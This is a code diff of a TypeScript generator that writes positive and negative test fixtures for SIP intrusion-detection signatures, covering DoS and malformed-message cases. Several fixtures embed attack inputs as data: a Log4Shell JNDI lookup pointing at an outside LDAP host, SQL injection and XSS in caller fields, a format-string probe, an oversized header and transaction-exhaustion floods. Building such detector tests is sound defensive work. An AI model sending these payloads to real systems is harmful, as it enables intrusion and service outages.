-    f.write('dos/SIP-DOS-04/negative/trunk-down-30-calls.jsonl');
-  }
+  });
   writeEvents('dos/SIP-DOS-04/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-DOS-05 --------------------------------------------------------------------------------
-  {
-    // Transaction exhaustion: 40 INVITEs in 30 s from one host. 30 of them the target accepts
-    // (100 Trying) but never answers finally — it holds them, as a forking proxy does until
-    // Timer C; 10 are answered 200 OK and never ACKed (the UAS resends its 200 on Timer G).
-    // Unrelated keepalives keep event time moving past the timeout.
-    const f = new Fixture(new Rand(1201));
-    const c = Clock.at('2026-11-20T05:50:00Z');
+  // Transaction exhaustion: 40 INVITEs in 30 s from one host. 30 of them the target accepts
+  // (100 Trying) but never answers finally — it holds them, as a forking proxy does until
+  // Timer C; 10 are answered 200 OK and never ACKed (the UAS resends its 200 on Timer G).
+  // Unrelated keepalives keep event time moving past the timeout.
+  scenario('dos/SIP-DOS-05/positive/invite-exhaustion-no-final-no-ack.jsonl', 1201, '2026-11-20T05:50:00Z', (f, c) => {
     const attacker: Endpoint = { ip: '203.0.113.140', port: 5060 };
     for (let i = 0; i < 40; i++) {
       const q: RequestSpec = {
@@ -849,12 +754,9 @@ function dos(realUdp: SipEvent[]): void {
         },
       );
     }
-    f.write('dos/SIP-DOS-05/positive/invite-exhaustion-no-final-no-ack.jsonl');
-  }
-  {
-    // 30 calls that ring for 60 s and are cancelled (CANCEL → 200, 487 → ACK): long but complete.
-    const f = new Fixture(new Rand(1202));
-    const c = Clock.at('2026-11-20T17:00:00Z');
+  });
+  // 30 calls that ring for 60 s and are cancelled (CANCEL → 200, 487 → ACK): long but complete.
+  scenario('dos/SIP-DOS-05/negative/ringing-then-cancelled.jsonl', 1202, '2026-11-20T17:00:00Z', (f, c) => {
     const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
     for (let i = 0; i < 30; i++) {
       const q: RequestSpec = {
@@ -901,13 +803,10 @@ function dos(realUdp: SipEvent[]): void {
         },
       );
     }
-    f.write('dos/SIP-DOS-05/negative/ringing-then-cancelled.jsonl');
-  }
-  {
-    // Near miss: 12 calls whose final response never reached the capture (asymmetric tap,
-    // lossy mirror) — under the threshold of 20.
-    const f = new Fixture(new Rand(1203));
-    const c = Clock.at('2026-11-20T17:30:00Z');
+  });
+  // Near miss: 12 calls whose final response never reached the capture (asymmetric tap,
+  // lossy mirror) — under the threshold of 20.
+  scenario('dos/SIP-DOS-05/negative/twelve-finals-missed-by-tap.jsonl', 1203, '2026-11-20T17:30:00Z', (f, c) => {
     const pbx: Endpoint = { ip: '10.77.2.12', port: 5060 };
     for (let i = 0; i < 12; i++) {
       const q: RequestSpec = {
@@ -944,8 +843,7 @@ function dos(realUdp: SipEvent[]): void {
         },
       );
     }
-    f.write('dos/SIP-DOS-05/negative/twelve-finals-missed-by-tap.jsonl');
-  }
+  });
   writeEvents('dos/SIP-DOS-05/negative/testbed-udp-real.jsonl', realUdp);
 }
 
@@ -964,9 +862,7 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
   });
 
   // SIP-MAL-01 --------------------------------------------------------------------------------
-  {
-    const f = new Fixture(new Rand(1301));
-    const c = Clock.at('2026-11-20T06:10:00Z');
+  scenario('malformed/SIP-MAL-01/positive/oversize-uri-call-id-from.jsonl', 1301, '2026-11-20T06:10:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.150', port: 5060 };
     f.request(
       base(f, src, { ruri: `sip:${'9'.repeat(400)}@${DOMAIN}`, to: { user: '9'.repeat(400), host: DOMAIN } }),
@@ -979,13 +875,10 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       PROXY,
       c.advanceMs(500),
     );
-    f.write('malformed/SIP-MAL-01/positive/oversize-uri-call-id-from.jsonl');
-  }
-  {
-    // WebRTC-style INVITE: ~2.6 KB of SDP with ICE candidates → oversize_content_length only,
-    // which this signature leaves out on purpose (Snort's 1024-byte body limit, FP lesson).
-    const f = new Fixture(new Rand(1302));
-    const c = Clock.at('2026-11-20T18:00:00Z');
+  });
+  // WebRTC-style INVITE: ~2.6 KB of SDP with ICE candidates → oversize_content_length only,
+  // which this signature leaves out on purpose (Snort's 1024-byte body limit, FP lesson).
+  scenario('malformed/SIP-MAL-01/negative/webrtc-large-sdp.jsonl', 1302, '2026-11-20T18:00:00Z', (f, c) => {
     const src: Endpoint = { ip: '10.77.4.10', port: 5060 };
     let extra =
       'a=ice-ufrag:Fh3k\r\na=ice-pwd:8Zq9r1Yc0Lx2Vb7Nm4Kp5Jt6\r\na=fingerprint:sha-256 ' +
@@ -996,26 +889,25 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
     for (let i = 0; i < 8; i++)
       extra += `a=rtpmap:${96 + i} opus/48000/2\r\na=fmtp:${96 + i} minptime=10;useinbandfec=1\r\n`;
     f.request(base(f, src, { body: SDP(src.ip, 50000, extra), userAgent: 'JsSIP 3.10.1' }), PROXY, c.us);
-    f.write('malformed/SIP-MAL-01/negative/webrtc-large-sdp.jsonl');
-  }
+  });
   writeEvents('malformed/SIP-MAL-01/negative/testbed-frag-3kb-sdp-real.jsonl', realFrag);
   writeEvents('malformed/SIP-MAL-01/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-MAL-02 --------------------------------------------------------------------------------
-  {
-    const f = new Fixture(new Rand(1401));
-    const c = Clock.at('2026-11-20T06:20:00Z');
-    const src: Endpoint = { ip: '203.0.113.151', port: 5060 };
-    f.request(base(f, src, { method: 'OPTIONS', omit: ['Call-ID'] }), PROXY, c.us);
-    f.request(base(f, src, { from: { host: '', raw: '' } }), PROXY, c.advanceMs(300));
-    f.request(base(f, src, { method: 'REGISTER', ruri: `sip:${DOMAIN}`, omit: ['Via'] }), PROXY, c.advanceMs(300));
-    f.write('malformed/SIP-MAL-02/positive/missing-call-id-empty-from-no-via.jsonl');
-  }
-  {
-    // An RFC 2543-era device that omits Max-Forwards: not one of the five headers the sanity
-    // check requires, so no alert.
-    const f = new Fixture(new Rand(1402));
-    const c = Clock.at('2026-11-20T18:10:00Z');
+  scenario(
+    'malformed/SIP-MAL-02/positive/missing-call-id-empty-from-no-via.jsonl',
+    1401,
+    '2026-11-20T06:20:00Z',
+    (f, c) => {
+      const src: Endpoint = { ip: '203.0.113.151', port: 5060 };
+      f.request(base(f, src, { method: 'OPTIONS', omit: ['Call-ID'] }), PROXY, c.us);
+      f.request(base(f, src, { from: { host: '', raw: '' } }), PROXY, c.advanceMs(300));
+      f.request(base(f, src, { method: 'REGISTER', ruri: `sip:${DOMAIN}`, omit: ['Via'] }), PROXY, c.advanceMs(300));
+    },
+  );
+  // An RFC 2543-era device that omits Max-Forwards: not one of the five headers the sanity
+  // check requires, so no alert.
+  scenario('malformed/SIP-MAL-02/negative/legacy-no-max-forwards.jsonl', 1402, '2026-11-20T18:10:00Z', (f, c) => {
     const src: Endpoint = { ip: '10.77.4.20', port: 5060 };
     for (let i = 0; i < 3; i++) {
       f.request(
@@ -1025,14 +917,11 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       );
       c.advanceMs(30000);
     }
-    f.write('malformed/SIP-MAL-02/negative/legacy-no-max-forwards.jsonl');
-  }
+  });
   writeEvents('malformed/SIP-MAL-02/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-MAL-03 --------------------------------------------------------------------------------
-  {
-    const f = new Fixture(new Rand(1501));
-    const c = Clock.at('2026-11-20T06:30:00Z');
+  scenario('malformed/SIP-MAL-03/positive/cseq-mismatch-length-version.jsonl', 1501, '2026-11-20T06:30:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.152', port: 5060 };
     f.request(base(f, src, { cseqMethod: 'REGISTER' }), PROXY, c.us);
     f.request(
@@ -1045,12 +934,9 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       PROXY,
       c.advanceMs(300),
     );
-    f.write('malformed/SIP-MAL-03/positive/cseq-mismatch-length-version.jsonl');
-  }
-  {
-    // Extension methods (RFC 3262/3265/3311/3428/3515/3903/6086) are valid SIP, not anomalies.
-    const f = new Fixture(new Rand(1502));
-    const c = Clock.at('2026-11-20T18:20:00Z');
+  });
+  // Extension methods (RFC 3262/3265/3311/3428/3515/3903/6086) are valid SIP, not anomalies.
+  scenario('malformed/SIP-MAL-03/negative/extension-methods.jsonl', 1502, '2026-11-20T18:20:00Z', (f, c) => {
     const src: Endpoint = { ip: '10.77.4.30', port: 5060 };
     for (const method of ['PUBLISH', 'MESSAGE', 'INFO', 'UPDATE', 'PRACK', 'REFER', 'NOTIFY', 'SUBSCRIBE']) {
       f.request(
@@ -1063,23 +949,22 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       );
       c.advanceMs(200);
     }
-    f.write('malformed/SIP-MAL-03/negative/extension-methods.jsonl');
-  }
+  });
   writeEvents('malformed/SIP-MAL-03/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-MAL-04 --------------------------------------------------------------------------------
-  {
-    // ET 2003474: "REGISTER" with no Request-URI and no version (Asterisk DoS).
-    const f = new Fixture(new Rand(1601));
-    const c = Clock.at('2026-11-20T06:40:00Z');
-    const src: Endpoint = { ip: '203.0.113.153', port: 5060 };
-    f.request(base(f, src, { method: 'REGISTER', startLine: 'REGISTER' }), REGISTRAR, c.us);
-    f.write('malformed/SIP-MAL-04/positive/register-without-uri-or-version.jsonl');
-  }
-  {
-    // Format-string probe in User-Agent and From display name.
-    const f = new Fixture(new Rand(1602));
-    const c = Clock.at('2026-11-20T06:41:00Z');
+  // ET 2003474: "REGISTER" with no Request-URI and no version (Asterisk DoS).
+  scenario(
+    'malformed/SIP-MAL-04/positive/register-without-uri-or-version.jsonl',
+    1601,
+    '2026-11-20T06:40:00Z',
+    (f, c) => {
+      const src: Endpoint = { ip: '203.0.113.153', port: 5060 };
+      f.request(base(f, src, { method: 'REGISTER', startLine: 'REGISTER' }), REGISTRAR, c.us);
+    },
+  );
+  // Format-string probe in User-Agent and From display name.
+  scenario('malformed/SIP-MAL-04/positive/format-string-user-agent.jsonl', 1602, '2026-11-20T06:41:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.154', port: 5060 };
     f.request(
       base(f, src, {
@@ -1090,20 +975,14 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       PROXY,
       c.us,
     );
-    f.write('malformed/SIP-MAL-04/positive/format-string-user-agent.jsonl');
-  }
-  {
-    // CVE-2005-4050-style: one 10 KB header line (an overflow of the line buffer).
-    const f = new Fixture(new Rand(1603));
-    const c = Clock.at('2026-11-20T06:42:00Z');
+  });
+  // CVE-2005-4050-style: one 10 KB header line (an overflow of the line buffer).
+  scenario('malformed/SIP-MAL-04/positive/ten-kb-header-line.jsonl', 1603, '2026-11-20T06:42:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.155', port: 5060 };
     f.request(base(f, src, { extraHeaders: [`Subject: ${'A'.repeat(10000)}`] }), PROXY, c.us);
-    f.write('malformed/SIP-MAL-04/positive/ten-kb-header-line.jsonl');
-  }
-  {
-    // Large but legitimate: the testbed's 3.5 KB INVITE plus display names with a percent sign.
-    const f = new Fixture(new Rand(1604));
-    const c = Clock.at('2026-11-20T18:30:00Z');
+  });
+  // Large but legitimate: the testbed's 3.5 KB INVITE plus display names with a percent sign.
+  scenario('malformed/SIP-MAL-04/negative/percent-in-display-name.jsonl', 1604, '2026-11-20T18:30:00Z', (f, c) => {
     const src: Endpoint = { ip: '10.77.4.40', port: 5060 };
     f.request(
       base(f, src, { from: { user: '4040', host: DOMAIN, display: 'Sales 100% Team', tag: 'p1' } }),
@@ -1115,14 +994,11 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       PROXY,
       c.advanceMs(100),
     );
-    f.write('malformed/SIP-MAL-04/negative/percent-in-display-name.jsonl');
-  }
+  });
   writeEvents('malformed/SIP-MAL-04/negative/testbed-frag-3kb-sdp-real.jsonl', realFrag);
 
   // SIP-MAL-05 --------------------------------------------------------------------------------
-  {
-    const f = new Fixture(new Rand(1701));
-    const c = Clock.at('2026-11-20T06:50:00Z');
+  scenario('malformed/SIP-MAL-05/positive/sqli-in-from-display.jsonl', 1701, '2026-11-20T06:50:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.160', port: 5060 };
     f.request(
       base(f, src, {
@@ -1134,18 +1010,12 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       REGISTRAR,
       c.us,
     );
-    f.write('malformed/SIP-MAL-05/positive/sqli-in-from-display.jsonl');
-  }
-  {
-    const f = new Fixture(new Rand(1702));
-    const c = Clock.at('2026-11-20T06:51:00Z');
+  });
+  scenario('malformed/SIP-MAL-05/positive/log4shell-user-agent.jsonl', 1702, '2026-11-20T06:51:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.161', port: 5060 };
     f.request(base(f, src, { method: 'OPTIONS', userAgent: '${jndi:ldap://203.0.113.161:1389/Exploit}' }), PROXY, c.us);
-    f.write('malformed/SIP-MAL-05/positive/log4shell-user-agent.jsonl');
-  }
-  {
-    const f = new Fixture(new Rand(1703));
-    const c = Clock.at('2026-11-20T06:52:00Z');
+  });
+  scenario('malformed/SIP-MAL-05/positive/xss-in-caller-name.jsonl', 1703, '2026-11-20T06:52:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.162', port: 5060 };
     f.request(
       base(f, src, {
@@ -1154,12 +1024,9 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       PROXY,
       c.us,
     );
-    f.write('malformed/SIP-MAL-05/positive/xss-in-caller-name.jsonl');
-  }
-  {
-    // O'Brien, dial strings with * and #, a UUID Call-ID and a hyphenated UA: no payload.
-    const f = new Fixture(new Rand(1704));
-    const c = Clock.at('2026-11-20T18:40:00Z');
+  });
+  // O'Brien, dial strings with * and #, a UUID Call-ID and a hyphenated UA: no payload.
+  scenario('malformed/SIP-MAL-05/negative/obrien-and-dial-strings.jsonl', 1704, '2026-11-20T18:40:00Z', (f, c) => {
     const src: Endpoint = { ip: '10.77.4.50', port: 5060 };
     f.request(
       base(f, src, {
@@ -1181,15 +1048,12 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       PROXY,
       c.advanceMs(1000),
     );
-    f.write('malformed/SIP-MAL-05/negative/obrien-and-dial-strings.jsonl');
-  }
+  });
   writeEvents('malformed/SIP-MAL-05/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-MAL-06 --------------------------------------------------------------------------------
-  {
-    // A fuzzer (PROTOS c07-sip / Voiper style): 40 broken messages of varied kinds in 8 s.
-    const f = new Fixture(new Rand(1801));
-    const c = Clock.at('2026-11-20T07:00:00Z');
+  // A fuzzer (PROTOS c07-sip / Voiper style): 40 broken messages of varied kinds in 8 s.
+  scenario('malformed/SIP-MAL-06/positive/fuzzing-burst.jsonl', 1801, '2026-11-20T07:00:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.170', port: 5060 };
     const mutations: Array<Partial<RequestSpec>> = [
       { omit: ['Call-ID'] },
@@ -1212,12 +1076,9 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       );
       c.advanceMs(200);
     }
-    f.write('malformed/SIP-MAL-06/positive/fuzzing-burst.jsonl');
-  }
-  {
-    // One broken phone: every REGISTER refresh declares a wrong Content-Length, once a minute.
-    const f = new Fixture(new Rand(1802));
-    const c = Clock.at('2026-11-20T19:00:00Z');
+  });
+  // One broken phone: every REGISTER refresh declares a wrong Content-Length, once a minute.
+  scenario('malformed/SIP-MAL-06/negative/one-broken-phone-slow.jsonl', 1802, '2026-11-20T19:00:00Z', (f, c) => {
     const src: Endpoint = { ip: '10.77.4.60', port: 5060 };
     for (let i = 0; i < 20; i++) {
       f.request(
@@ -1235,8 +1096,7 @@ function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
       );
       c.advanceMs(60000);
     }
-    f.write('malformed/SIP-MAL-06/negative/one-broken-phone-slow.jsonl');
-  }
+  });
   writeEvents('malformed/SIP-MAL-06/negative/testbed-udp-real.jsonl', realUdp);
 }
 
